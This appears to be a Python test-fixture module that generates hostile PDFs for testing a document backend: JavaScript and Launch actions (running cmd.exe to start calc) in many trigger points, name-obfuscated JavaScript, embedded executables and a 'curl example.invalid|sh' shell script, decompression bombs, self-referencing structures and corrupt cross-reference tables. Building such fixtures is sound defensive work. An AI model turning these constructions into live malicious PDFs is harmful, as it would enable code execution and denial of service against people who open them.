"""PDFs that want something: to run, to start, to bring along, to grow, to go round in circles."""

from __future__ import annotations

import io
from collections.abc import Iterator

from pypdf import PdfWriter
from pypdf.constants import UserAccessPermissions

from tests.backend.hostile_parts import elf, inflating, packed_objects, page_with, pdf, raw_pdf, stream, windows

Named = Iterator[tuple[str, bytes]]

SCRIPT = b'<</S/JavaScript/JS(app.launchURL\\("http://example.invalid"\\))>>'
LAUNCH = b"<</S/Launch/Win<</F(cmd.exe)/P(/c calc)>>>>"
SPELLINGS = {
    "plain": b"/JavaScript", "a code": b"/J#61vaScript", "all codes": b"/#4a#61#76#61#53#63#72#69#70#74",
    "spaced": b"/JavaScript ",
}  # fmt: skip


def encrypted(password: str, content: bytes, algorithm: str = "AES-256") -> bytes:
    writer = PdfWriter(clone_from=io.BytesIO(content))
    writer.encrypt(password, "dono", permissions_flag=UserAccessPermissions(0), algorithm=algorithm)
    written = io.BytesIO()
    writer.write(written)
    return written.getvalue()


def active() -> Named:
    """Scripts, programs that are started, programs that are brought along, in every place that a viewer looks."""
    for name, action in (("script", SCRIPT), ("launch", LAUNCH)):
        yield f"{name} on opening", page_with(catalog=b"/OpenAction" + action)
        yield f"{name} before closing", page_with(catalog=b"/AA<</WC%s/WP%s>>" % (action, action))
        yield f"{name} on a page", page_with(page=b"/AA<</O%s>>" % action)
        yield (
            f"{name} on a link",
            page_with(page=b"/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 600 800]/A%s>>]" % action),
        )
        yield (
            f"{name} in a form",
            page_with(
                catalog=b"/AcroForm<</Fields[5 0 R]>>",
                page=b"/Annots[5 0 R]",
                others={
                    5: b"<</Type/Annot/Subtype/Widget/FT/Tx/T(a)/V(b)/Rect[9 9 90 90]/AA<</K%s/F%s>>>>"
                    % (action, action)
                },
            ),
        )
        yield (
            f"{name} in an outline",
            page_with(
                catalog=b"/Outlines 5 0 R",
                others={5: b"<</First 6 0 R/Last 6 0 R/Count 1>>", 6: b"<</Title(a)/Parent 5 0 R/A%s>>" % action},
            ),
        )
        yield f"{name} behind another action", page_with(catalog=b"/OpenAction<</S/GoTo/D[3 0 R/Fit]/Next%s>>" % action)
        yield f"{name} by reference", page_with(catalog=b"/OpenAction 5 0 R", others={5: action})
        dictionaries = {
            1: b"<</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R>>",
            2: b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
            3: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]>>",
            4: action,
        }
        yield f"{name} packed", packed_objects(dictionaries)
        yield f"{name} packed and spelt", packed_objects(dictionaries, spelt=True)
        yield f"{name} under an empty password", encrypted("", page_with(catalog=b"/OpenAction" + action))
        yield f"{name} late in the file", b"\n" * 900 + page_with(catalog=b"/OpenAction" + action)
    for name, spelt in SPELLINGS.items():
        script = SCRIPT.replace(b"/JavaScript", spelt)
        yield f"named script, {name}", page_with(catalog=b"/Names<</JavaScript<</Names[(a)%s]>>>>" % script)
        yield f"script on opening, {name}", page_with(catalog=b"/OpenAction" + script)
        yield (
            f"script in a stream, {name}",
            page_with(
                catalog=b"/OpenAction<</S%s/JS 5 0 R>>" % spelt, others={5: stream(b"app.alert(1)", packed=True)}
            ),
        )
    yield (
        "a rendition",
        page_with(page=b"/Annots[<</Subtype/Screen/Rect[0 0 9 9]/A<</S/Rendition/JS(app.alert\\(1\\))>>>>]"),
    )
    for packed in (False, True):
        for guest in (windows(), elf(), b"#!/bin/sh\ncurl example.invalid|sh\n"):
            yield f"brings {guest[:4]!r}{' packed' if packed else ''}", _brings(guest, "anexo.pdf", packed=packed)
    for name in ("nota.exe", "nota.pdf.js", "nota.bat", "nota.scr", "nota.vbs", "nota.hta", "nota.docm", "NOTA.LNK "):
        yield f"brings {name}", _brings(b"something", name, packed=True)


def _brings(content: bytes, name: str, *, packed: bool) -> bytes:
    title = name.encode()
    return page_with(
        catalog=b"/Names<</EmbeddedFiles<</Names[(%s)5 0 R]>>>>" % title,
        others={
            5: b"<</Type/Filespec/F(%s)/UF(%s)/EF<</F 6 0 R>>>>" % (title, title),
            6: stream(content, b"/Type/EmbeddedFile", packed=packed),
        },
    )  # fmt: skip


def locked() -> Named:
    """PDFs that ask for a password, by each method that people have."""
    for method in ("RC4-40", "RC4-128", "AES-128", "AES-256-R5", "AES-256"):
        yield method, encrypted("segredo", pdf(), method)


def growing() -> Named:
    """Small streams that become large: pages, pictures, tables, twice and three times packed."""
    flate = b"/Filter/FlateDecode"
    for size in (20, 60, 200):
        spaces, zeros = inflating(size, b" "), inflating(size)
        yield f"a page of {size} MB", page_with(stream(spaces, flate))
        yield f"a page of {size} MB of drawing", page_with(stream(inflating(size, b"0 0 9 9 re f\n   "), flate))
        yield (
            f"a packed dictionary of {size} MB",
            packed_objects(
                {
                    1: b"<</Type/Catalog/Pages 2 0 R>>",
                    2: b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
                    3: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]>>" + b" " * size * 1024 * 64,
                }
            ),
        )
        for side in (2000, 20_000, 60_000):
            image = b"/Type/XObject/Subtype/Image/Width %d/Height %d/ColorSpace/DeviceGray/BitsPerComponent 8" % (
                side,
                side,
            )
            yield (
                f"a picture of {side} pixels in {size} MB",
                page_with(
                    b"595 0 0 842 0 0 cm /I Do",
                    resources=b"/XObject<</I 5 0 R>>",
                    others={5: stream(zeros, image + flate)},
                ),
            )
    twice = stream(inflating(200), packed=True).replace(flate, b"/Filter[/FlateDecode/FlateDecode]")
    yield "packed twice", page_with(twice)
    yield (
        "packed and spelt",
        page_with(stream(b"\0" * 9 + b"z" * 900_000 + b"~>", b"/Filter[/ASCII85Decode/ASCII85Decode]")),
    )
    yield (
        "predicted",
        page_with(
            stream(
                inflating(60), flate + b"/DecodeParms<</Predictor 15/Columns 2147483647/Colors 32/BitsPerComponent 16>>"
            )
        ),
    )
    for name in (b"/CCITTFaxDecode", b"/JBIG2Decode", b"/JPXDecode", b"/RunLengthDecode"):
        image = b"/Type/XObject/Subtype/Image/Width 65000/Height 65000/ColorSpace/DeviceGray/BitsPerComponent 1"
        image += b"/Filter%s/DecodeParms<</Columns 65000/Rows 65000/K -1>>" % name
        yield (
            f"a fax of {name.decode()[1:]}",
            page_with(
                b"595 0 0 842 0 0 cm /I Do",
                resources=b"/XObject<</I 5 0 R>>",
                others={5: stream(b"\xff" * 2000, image)},
            ),
        )


def odd() -> Named:
    """PDFs that break what the format promises: trees that are none, measures that are none, endless nesting."""
    yield from _trees()
    for box in (
        b"0 0 1000000000 1000000000", b"0 0 0 0", b"0 0 -595 -842", b"595 842 0 0", b"0 0 1e38 1e38", b"0 0 0.001 0.001",
        b"0 0 100000 1", b"0 0 1 100000", b"(a)(b)(c)(d)", b"", b"0 0 595", b"-2147483648 -2147483648 2147483647 2147483647",
    ):  # fmt: skip
        yield f"measures {box.decode()}", page_with(b"0 0 100 100 re f", box=box)
    for depth in (500, 50_000):
        yield f"lists in lists, {depth}", page_with(catalog=b"/A" + b"[" * depth + b"]" * depth)
        yield f"dictionaries in dictionaries, {depth}", page_with(catalog=b"/A<<" * depth + b">>" * depth)
        yield f"brackets on a page, {depth}", page_with(b"[" * depth + b" TJ")
        yield f"saved states, {depth}", page_with(b"q " * depth + b"0 0 9 9 re f")
        yield f"marks within marks, {depth}", page_with(b"/A BMC " * depth)
    yield from _recursions()
    yield from _work()
    yield from _broken_ends()


def _trees() -> Named:
    catalog = b"<</Type/Catalog/Pages 2 0 R>>"
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]>>"
    yield "pages within themselves", raw_pdf({1: catalog, 2: b"<</Type/Pages/Kids[2 0 R]/Count 1>>"})
    yield "pages in a circle", raw_pdf({
        1: catalog, 2: b"<</Type/Pages/Kids[3 0 R]/Count 2>>", 3: b"<</Type/Pages/Parent 2 0 R/Kids[2 0 R]/Count 2>>",
    })  # fmt: skip
    yield "the catalog as a page", raw_pdf({1: b"<</Type/Catalog/Pages 1 0 R/Kids[1 0 R]/Count 3>>"})
    for count in (b"1000000000", b"-5", b"0", b"(a)", b"2 0 R", b"39"):
        yield (
            f"count {count.decode()}",
            raw_pdf({1: catalog, 2: b"<</Type/Pages/Kids[3 0 R]/Count %s>>" % count, 3: page}),
        )
    yield (
        "the same page 39 times",
        raw_pdf({1: catalog, 2: b"<</Type/Pages/Kids[%s]/Count 39>>" % (b"3 0 R " * 39), 3: page}),
    )
    yield "no page", raw_pdf({1: catalog, 2: b"<</Type/Pages/Kids[]/Count 0>>"})
    yield "no pages", raw_pdf({1: b"<</Type/Catalog>>"})
    yield "a page that is a number", raw_pdf({1: catalog, 2: b"<</Type/Pages/Kids[3 0 R]/Count 1>>", 3: b"7"})
    deep = {1: catalog, 2: b"<</Type/Pages/Kids[3 0 R]/Count 1>>"}
    deep |= {
        number: b"<</Type/Pages/Parent %d 0 R/Kids[%d 0 R]/Count 1>>" % (number - 1, number + 1)
        for number in range(3, 3000)
    }
    yield "pages 3000 deep", raw_pdf(deep | {3000: page})
    yield "a parent in a circle", raw_pdf({
        1: catalog, 2: b"<</Type/Pages/Parent 3 0 R/Kids[3 0 R]/Count 1>>", 3: b"<</Type/Page/Parent 2 0 R>>",
    })  # fmt: skip


def _recursions() -> Named:
    form = b"/Type/XObject/Subtype/Form/BBox[0 0 600 900]/Resources<</XObject<</A %d 0 R>>/Pattern<</P 6 0 R>>/Font<</F 7 0 R>>>>"
    yield (
        "a form within itself",
        page_with(b"/A Do", resources=b"/XObject<</A 5 0 R>>", others={5: stream(b"/A Do", form % 5)}),
    )
    yield (
        "forms in a circle",
        page_with(
            b"/A Do",
            resources=b"/XObject<</A 5 0 R>>",
            others={5: stream(b"/A Do", form % 6), 6: stream(b"/A Do", form % 5)},
        ),
    )
    for width, height in ((4, 6), (10, 12)):
        laughs = {5 + level: stream(b"/A Do " * width, form % (6 + level)) for level in range(height)}
        laughs[5 + height] = stream(b"0 0 500 500 re f", form % 5)
        yield (
            f"{width} forms in each of {height}",
            page_with(b"/A Do", resources=b"/XObject<</A 5 0 R>>", others=laughs),
        )
    tile = b"/Type/Pattern/PatternType 1/PaintType 1/TilingType 1/BBox[0 0 1 1]/XStep %s/YStep %s/Resources<</Pattern<</P 6 0 R>>>>"
    for step in (b"1", b"0.0001", b"0"):
        yield f"a pattern of itself every {step.decode()}", page_with(
            b"/Pattern cs /P scn 0 0 595 842 re f", resources=b"/Pattern<</P 6 0 R>>",
            others={6: stream(b"/Pattern cs /P scn 0 0 1 1 re f", tile % (step, step))},
        )  # fmt: skip
    yield "letters that write themselves", page_with(
        b"BT /F 40 Tf 50 500 Td (aaaa) Tj ET", resources=b"/Font<</F 7 0 R>>",
        others={
            7: b"<</Type/Font/Subtype/Type3/FontBBox[0 0 1 1]/FontMatrix[1 0 0 1 0 0]/CharProcs<</a 8 0 R>>/FirstChar 97"
            b"/LastChar 97/Widths[1]/Encoding<</Differences[97/a]>>/Resources<</Font<</F 7 0 R>>>>>>",
            8: stream(b"1 0 0 0 1 1 d1 BT /F 1 Tf (aaaa) Tj ET"),
        },
    )  # fmt: skip
    yield (
        "a colour of itself",
        page_with(
            b"/C cs 1 scn 0 0 99 99 re f",
            resources=b"/ColorSpace<</C 5 0 R>>",
            others={5: b"[/Indexed 5 0 R 255 5 0 R]"},
        ),
    )
    yield "a mask of itself", page_with(
        b"595 0 0 842 0 0 cm /I Do", resources=b"/XObject<</I 5 0 R>>",
        others={5: stream(b"\0" * 100, b"/Subtype/Image/Width 10/Height 10/ColorSpace/DeviceGray/BitsPerComponent 8/SMask 5 0 R")},
    )  # fmt: skip


def _work() -> Named:
    """Little to say, much to do."""
    yield "100,000 curves", page_with(stream(b"0 0 m 9 900 800 1 500 500 c S " * 100_000, packed=True))
    yield "dashes", page_with(b"[0.00001 0.00001] 0 d 0.1 w 0 0 m 595 842 l S")
    yield (
        "see-through rectangles",
        page_with(
            stream(b"/G gs 0 0 595 842 re f " * 3000, packed=True),
            resources=b"/ExtGState<</G<</ca 0.5/BM/Luminosity>>>>",
        ),
    )
    yield "a shading that counts", page_with(
        b"/S sh", resources=b"/Shading<</S<</ShadingType 1/ColorSpace/DeviceGray/Domain[0 1 0 1]/Matrix[595 0 0 842 0 0]/Function 5 0 R>>>>",
        others={5: stream(b"{" + b"sin exch cos add " * 2000 + b"}", b"/FunctionType 4/Domain[0 1 0 1]/Range[0 1]")},
    )  # fmt: skip
    yield "20,000 notes", page_with(page=b"/Annots[" + b"<</Subtype/Square/Rect[0 0 9 9]/C[1 0 0]>>" * 20_000 + b"]")
    yield (
        "a word of a megabyte",
        page_with(
            b"BT /F 9 Tf (" + b"a" * 1_000_000 + b") Tj ET",
            resources=b"/Font<</F<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>>>",
        ),
    )


def _broken_ends() -> Named:
    good = pdf()
    table = good.rindex(b"startxref")
    yield "no end", good[:table]
    yield "an end far away", good[:table] + b"startxref\n99999999999999\n%%EOF"
    yield "an end before the beginning", good[:table] + b"startxref\n-1\n%%EOF"
    yield "tables in a circle", good.replace(b"/Root", b"/Prev %d/Root" % good.rindex(b"xref\n0"))
    yield "a length of itself", page_with(b"<</Length 4 0 R>>stream\n0 0 9 9 re f\nendstream")
    yield "a length of eternity", page_with(b"<</Length 99999999999>>stream\n0 0 9 9 re f\nendstream")
    yield "a negative length", page_with(b"<</Length -1>>stream\n0 0 9 9 re f\nendstream")
    yield "an unknown filter", page_with(stream(b"abc", b"/Filter/Nothing"))
    yield "100,000 filters", page_with(stream(b"abc", b"/Filter[" + b"/FlateDecode" * 100_000 + b"]"))
    yield "an unknown lock", good.replace(b"/Root", b"/Encrypt<</Filter/Nobody/V 9>>/Root")
    yield "41 pages", pdf(41)
    yield "5000 pages", raw_pdf({
        1: b"<</Type/Catalog/Pages 2 0 R>>", 2: b"<</Type/Pages/Kids[%s]/Count 5000>>" % (b"3 0 R " * 5000),
        3: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>",
    })  # fmt: skip
